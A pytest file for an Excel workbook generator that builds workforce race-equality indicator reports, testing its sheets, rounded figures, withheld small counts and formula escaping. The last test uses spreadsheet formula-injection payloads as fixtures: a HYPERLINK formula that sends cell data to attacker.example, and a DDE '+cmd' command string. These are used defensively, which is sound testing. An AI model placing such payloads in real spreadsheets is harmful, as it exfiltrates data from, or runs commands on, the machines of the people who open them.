"""The analyst's workbook (workbook.py): its sheets, its figures against hand-worked values, withheld cells, and
text that stays text however hostile."""

from __future__ import annotations

import zipfile

from openpyxl import load_workbook

from conftest import ORG_YAML, staff_csv
from wres_helpers.report_data import load_report
from wres_helpers.workbook import write_workbook

# 20 White, 7 BME and 3 Unknown staff at Band 5; 9 White applicants shortlisted (2 appointed), 7 BME (1 appointed).
STAFF = staff_csv(20, 7, 3)
RECRUITMENT = (
    "application_id,ethnic_category,appointed\n"
    + "".join(f"w{i},A,{'Y' if i <= 2 else 'N'}\n" for i in range(1, 10))
    + "".join(f"b{i},N,{'Y' if i == 1 else 'N'}\n" for i in range(1, 8))
)


def _book(root, tmp_path, org="t"):
    path = write_workbook(load_report(org, 2021, root), tmp_path / "out")
    return path, load_workbook(path)


def _rows(sheet) -> dict:
    """First column -> the row's other cells, for the rows under the header."""
    return {row[0]: list(row[1:]) for row in sheet.iter_rows(min_row=5, values_only=True) if row[0] is not None}


def test_sheets_and_hand_worked_figures_rounded_as_printed(ws_withholding_nothing, tmp_path):
    root = ws_withholding_nothing(
        {2021: {"staff.csv": STAFF, "recruitment.csv": RECRUITMENT}},
        org_yaml=ORG_YAML.replace("term_for_bme: BME", "term_for_bme: ethnically diverse")
        + "small_number_threshold: 1\n",
    )
    path, book = _book(root, tmp_path)
    assert path.name == "t-wres-2021.xlsx"
    assert book.sheetnames == ["Contents", *[f"Indicator {i}" for i in range(1, 10)], "Notes"]

    one = book["Indicator 1"]
    assert [c.value for c in one[4]][:5] == [
        "Staff group and pay band",
        "White",
        "Ethnically diverse",
        "Unknown",
        "Total headcount",
    ]
    # 20/30 = 66.67%, 7/30 = 23.33%, 3/30 = 10.0%: stored as the printed numbers, not as text.
    assert _rows(one)["All staff"][:7] == [20, 7, 3, 30, 66.7, 23.3, 10.0]
    assert one["F5"].number_format == "0.0" and isinstance(one["F5"].value, float)

    two = _rows(book["Indicator 2"])
    # White 2 of 9 = 22.22%, ethnically diverse 1 of 7 = 14.29%; relative likelihood 0.2222 / 0.1429 = 1.5556.
    assert two["2021: White"][:3] == [9, 2, 22.2]
    assert two["2021: Ethnically diverse"][:3] == [7, 1, 14.3]
    assert two["2021: relative likelihood (White to Ethnically diverse)"][2] == 1.56
    # No staff survey file: the survey sheets say so in words, never 0.
    assert "no data" in str(list(book["Indicator 5"].iter_rows(values_only=True)))

    notes = "\n".join(str(v) for row in book["Notes"].iter_rows(values_only=True) for v in row if v)
    assert "ethnically diverse is Test Trust's term" in notes
    assert "Commit" in notes and "2021: staff" in notes and "params/" not in notes
    from wres_helpers.inputs import sha256

    assert sha256(root / "params" / "t" / "2021" / "staff.csv") in notes


def test_withheld_cells_say_so_in_the_organisations_wording(ws, tmp_path):
    # 3 BME staff of 30: a small count, withheld (and what would give it away by subtraction with it).
    root = ws({2021: {"staff.csv": staff_csv(24, 3, 3)}}, org_yaml=ORG_YAML + "withheld_wording: not shown\n")
    _, book = _book(root, tmp_path)
    sheet = book["Indicator 1"]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value == "All staff")
    bme, bme_share = row[2], row[6]
    assert bme.value == "not shown" and bme_share.value == "not shown"
    assert bme.fill.fgColor.rgb.endswith("E8EDEE")
    assert 3 not in [c.value for c in row[1:4]], "the small count itself is not in the workbook"
    assert 'marked "not shown"' in book["Contents"]["A2"].value


HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def test_text_is_never_a_formula(ws, tmp_path):
    org_yaml = (
        f"name: '{HOSTILE.replace(chr(39), chr(39) * 2)}'\ntype: trust\n"
        "term_for_bme: \"+cmd|' /C calc'!A0\"\nboard_name: '@SUM(1+1)'\n"
    )
    settings = 'indicators:\n  4: {status: not_collected, reason: "-2+3 =1+1 not collected"}\n'
    root = ws(
        {
            2021: {
                "staff.csv": staff_csv(30, 10),
                "settings.yaml": settings,
                "narrative/summary.md": "=1+1 is not a formula\n",
            }
        },
        org_yaml=org_yaml,
    )
    path, book = _book(root, tmp_path)
    texts = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)
    starts = {c.value for c in texts if c.value[:1] in "=+-@"}
    assert any(v.startswith(HOSTILE) for v in starts), starts  # the name, verbatim: no quote added
    assert any(v.startswith("+cmd|") for v in starts) and "@SUM(1+1)" in starts
    assert all(c.quotePrefix for c in texts if c.value[:1] in "=+-@")
    assert "-2+3 =1+1 not collected" in "\n".join(c.value for c in texts)
    # Independently of openpyxl: no sheet of the file holds a formula element.
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8") and "<f " not in z.read(name).decode("utf-8"), name
